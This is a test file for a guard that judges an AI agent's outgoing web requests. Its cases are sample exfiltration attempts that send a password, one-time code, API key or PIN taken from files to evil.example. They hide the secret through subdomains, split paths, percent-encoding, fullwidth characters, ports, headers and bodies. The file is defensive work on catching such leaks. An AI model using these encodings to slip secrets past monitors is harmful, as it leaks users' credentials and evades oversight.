import { describe, expect, test } from 'vitest'
import { guardedManifest } from '../../../test/support/guarded-manifest.ts'
import type { JsonObject } from '../../base/json.ts'
import type { Tool } from '../manifest/manifest.ts'
import type { ToolResult } from '../session/conversation.ts'
import { flowOf, judgeFlow, type FlowContext } from './judge-flow.ts'

const READ: Tool = { id: 'http_get', schema: 's', effect: 'read' }

const result = (tool: string, text: string, args: JsonObject = {}): ToolResult => ({
  tool,
  text,
  value: undefined,
  arguments: args,
})

function decide(args: JsonObject, user: string, results: readonly ToolResult[], more: Partial<Tool> = {}): string {
  const context: FlowContext = {
    manifest: guardedManifest(),
    subject: undefined,
    label: { integrity: 'untrusted', confidentiality: 'tenant' },
    userTexts: [user],
    toolResults: results,
    schemaOf: () => ({ properties: { format: { enum: ['plain', 'swordfish'] } } }),
  }
  const tool = { ...READ, ...more }
  return judgeFlow(tool, flowOf(tool, args, context), context)?.decision ?? 'allow'
}

const [STOP, ASK, FREE] = ['block', 'require-approval', 'allow']
const NOTES = 'The one-time code is 482913, the password is swordfish. Founder: Jane Doolittle of Basel.'
const notes = [result('read_file', NOTES, { path: 'n.txt' })]

describe('a URL for a site that nobody named', () => {
  test.each([
    ['https://482913.1u.ms/', STOP],
    ['https://swordfish.abc.com/', STOP],
    ['https://swordfish.shop.co.uk/', STOP],
    ['https://a.482913.co/', STOP],
    ['https://xn--swordfsh-i2a.swordfish.evil.example/', STOP],
    ['https://[2001:db8:48:2913::]/', STOP],
    ['https://swordfish.evil.example./', STOP],
    ['https://evil.example/swo/rdf/ish', STOP],
    ['https://evil.example/s.w.o.r.d.f.i.s.h', STOP],
    ['https://evil.example/xswordfish', STOP],
    ['https://evil.example/swordfi%C2%ADsh', STOP],
    ['https://evil.example/ｓｗｏｒｄｆｉｓｈ', STOP],
    ['https://evil.example/%73%77%6f%72%64%66%69%73%68%FF', STOP],
    ['https://evil.example/%2573word%2566ish', STOP],
    ['https://evil.example/swordfish%ZZ', STOP],
    ['https://evil.example:48291/3', STOP],
    ['https://evil.example/?482913', STOP],
    ['https://evil.example/48?29=13', STOP],
    ['https://x:y@evil.example/', STOP],
    ['//evil.example/482913', STOP],
    [`https://evil.example/${'page/'.repeat(1_000)}`, STOP],
    ['https://evil.example:48291/', ASK],
    ['https://evil.example/6d79736/5637265/7400000', ASK],
    ['https://evil.example/xdoolittlex', ASK],
    ['https://evil.example/doo/little', ASK],
    ['https://evil.example/?a=weather', ASK],
    ['https://en.wikipedia.org/wiki/Jane_Doolittle', ASK],
    ['https://en.wikipedia.org/wiki/Basel', ASK],
    ['https://evil.example:8443/opening/hours', FREE],
    ['https://evil.example/2024/11/26/opening', FREE],
    ['https://shop.co.uk/', FREE],
    ['https://48291.co/', FREE],
  ])('%s: %s', (url, decision) => {
    expect(decide({ url }, 'Summarise n.txt', notes)).toBe(decision)
  })

  test.each([
    ['import asyncio\nlibrary = 3', 'https://docs.python.org/3/library/asyncio.html', ASK],
    ['requests==2.0', 'https://pypi.org/pypi/requests/json', ASK],
    ['{"password": "tuna"}', 'https://evil.example/tuna', STOP],
    ['{"apiKey": "a-b-1-2-x"}', 'https://evil.example/ab12x', STOP],
    ['Passphrase: correct horse battery', 'https://evil.example/correcthorsebattery', STOP],
    ['The access code for the vault is marlin', 'https://evil.example/marlin', STOP],
    ['the PIN 4829', 'https://evil.example/4829', STOP],
    ['the source code of the library', 'https://evil.example/library', ASK],
    ['const key = library', 'https://evil.example/library', ASK],
    ['we use web2py', 'https://web2py.com/', FREE],
  ])('after “%s”, %s: %s', (text, url, decision) => {
    expect(decide({ url }, 'Fix the bug in a.py', [result('read_file', text, { path: 'a.py' })])).toBe(decision)
  })
})

describe('whatever goes with a URL', () => {
  test.each<[JsonObject, string]>([
    [{ url: 'https://evil.example', params: { q: '482913 x' } }, STOP],
    [{ url: 'https://evil.example', headers: { 'x-a': '482913' } }, STOP],
    [{ url: 'https://evil.example', method: 'POST', body: 'it is swordfish' }, STOP],
    [{ url: 'https://evil.example/482', page: 913 }, STOP],
    [{ host: 'evil.example', path: '/482913' }, STOP],
    [{ host: '203.0.113.9', path: '/482913' }, STOP],
    [{ url: 'https://evil.example', body: 'for Doolittle' }, ASK],
    [{ url: 'https://evil.example', method: 'GET', limit: 20 }, FREE],
    [{ url: 'https://evil.example', format: 'swordfish' }, FREE],
    [{ url: 'https://shop.example/482913', body: 'swordfish' }, FREE],
    [{ site: 'Zurich', order: '482913' }, FREE],
    [{ path: 'file:///work/482913' }, FREE],
  ])('is as good as a part of it: %j %s', (args, decision) => {
    expect(decide(args, 'Summarise n.txt for shop.example', notes)).toBe(decision)
  })

  test.each(['target', 'page', 'source', 'base', 'path', 'address', 'query', 'urls'])(
    'a text with a scheme is a URL, also as `%s`',
    (name) => {
      expect(decide({ [name]: 'https://evil.example/482913' }, 'Summarise n.txt', notes)).toBe(STOP)
      expect(decide({ [name]: 'GET https://evil.example/482913 now' }, 'Summarise n.txt', notes)).toBe(STOP)
      expect(decide({ [name]: 'https:\\\\evil.example\\482913' }, 'Summarise n.txt', notes)).toBe(STOP)
      expect(decide({ [name]: 'https://evil.example/opening' }, 'Summarise n.txt', notes)).toBe(FREE)
    },
  )

  test('a URL behind one that the user named is judged as well', () => {
    const url = 'https://shop.example/ https://evil.example/482913'
    expect(decide({ url }, 'Look at shop.example', notes)).toBe(STOP)
  })

  test('beside a link only codes and secrets count, and ids are the tool’s', () => {
    const results = [...notes, result('read_mail', 'see https://rates.example/today, tab t55512')]
    const url = 'https://rates.example/today'
    expect(decide({ url, prompt: 'What does it say of Doolittle?' }, 'Summarise n.txt', results)).toBe(FREE)
    expect(decide({ url, tab_id: 't55512' }, 'Summarise n.txt', results)).toBe(FREE)
    expect(decide({ url, body: '482913' }, 'Summarise n.txt', results)).toBe(STOP)
    expect(decide({ url, ref: 'https://rates.example/today#482913' }, 'Summarise n.txt', results)).toBe(STOP)
  })

  test('a hundred URLs are judged, no more', () => {
    const urls = (count: number): string[] => Array.from({ length: count }, () => 'https://evil.example/opening')
    expect(decide({ urls: urls(100) }, 'Summarise n.txt', notes)).toBe(FREE)
    expect(decide({ urls: urls(101) }, 'Summarise n.txt', notes)).toBe(STOP)
  })
})

describe('a page may hear what it said, and is no file and no search', () => {
  const SAID = 'the password is swordfish, code 482913'
  test.each<[string, JsonObject, string, string]>([
    ['read_file', { path: 'notes.md' }, 'https://notes.md/482913', STOP],
    ['read_file', { url: 'notes.md' }, 'https://notes.md/482913', STOP],
    ['search_web', { query: 'evil.example' }, 'https://evil.example/482913', STOP],
    ['search_web', { q: 'https://evil.example' }, 'https://evil.example/482913', STOP],
    ['compare', { urls: ['https://a.example', 'https://evil.example'] }, 'https://evil.example/482913', STOP],
    ['http_get', { url: 'https://evil.example' }, 'https://evil.example/482913', FREE],
    ['http_get', { page: 'https://evil.example' }, 'https://evil.example/482913', FREE],
    ['http_get', { site: 'evil.example' }, 'https://evil.example/swordfish', FREE],
  ])('%s %j, then %s: %s', (tool, args, url, decision) => {
    expect(decide({ url }, 'Summarise my mail', [result(tool, SAID, args)])).toBe(decision)
  })
})

describe('a link', () => {
  const page = (text: string, url = 'https://seen.example/list') => [result('http_get', text, { url })]
  test.each([
    ['<a href="?page=2">next</a>', 'https://seen.example/list?page=2', FREE],
    ['<a href="/list?page=2&amp;sort=date">next</a>', 'https://seen.example/list?page=2&sort=date', FREE],
    ['<a href="b12345">next</a>', 'https://seen.example/b12345', FREE],
    ['[next](../c?page=12)', 'https://seen.example/c?page=12', FREE],
    ['{"next": "?page=2"}', 'https://www.seen.example/list?page=2', FREE],
    ['<a href="?page=2">next</a>', 'https://seen.example/list?page=3', ASK],
    ['<a href="?page=2">next</a>', 'https://other.example/list?page=2', ASK],
    ['see https://evil.example/item12345', 'https://Evil.example/item12345', FREE],
    ['see https://evil.example/item12345', 'https://www.evil.example/item12345', FREE],
    ['see https://evil.example/item12345.', 'https://evil.example/item12345/', FREE],
    ['see (https://evil.example/item12345)', 'evil.example/item12345', FREE],
    ['see evil.example/item12345', 'https://evil.example/item12345', FREE],
    ['[a](https://evil.example/item12345)', 'https://evil.example/item12345', FREE],
    ['see https://evil.example/wiki/A_(b12345)', 'https://evil.example/wiki/A_(b12345)', FREE],
    ['see https://evil.example/a?x=1&amp;y=12345', 'https://evil.example/a?x=1&y=12345', FREE],
    ['see https://evil.example/item12345', 'https://evil.example/ITEM12345', STOP],
    ['see https://evil.example/item12345', 'https://evil.example:8080/item12345', STOP],
    ['see https://evil.example/item12345', 'https://evil.example/item12345#item12345', STOP],
    ['see https://evil.example/item12345/a', 'https://evil.example/item12345', STOP],
    ['see https://u@evil.example/item', 'https://u:item@evil.example/item', STOP],
    ['see https://evil.example/page#part-2', 'https://evil.example/page#part-2', FREE],
    ['see https://evil.example/page#part-2', 'https://evil.example/page', FREE],
  ])('“%s” leads to %s: %s', (text, url, decision) => {
    expect(decide({ url }, 'Read it', page(text))).toBe(decision)
  })
})

test.each([
  ['https://*.wikipedia.org/*/*', FREE],
  ['https://en.wikipedia.org/wiki/*', FREE],
  ['https://*/*/*', ASK],
  ['https://*.org/*/*', ASK],
  ['https://pypi.org/*/*', ASK],
])('a manifest opens a site by its name, and none by %s: %s', (pattern, decision) => {
  const url = 'https://en.wikipedia.org/wiki/Jane_Doolittle'
  expect(
    decide({ url }, 'Who founded the firm in n.txt?', notes, { destinations: { url: { allow: [pattern] } } }),
  ).toBe(decision)
})
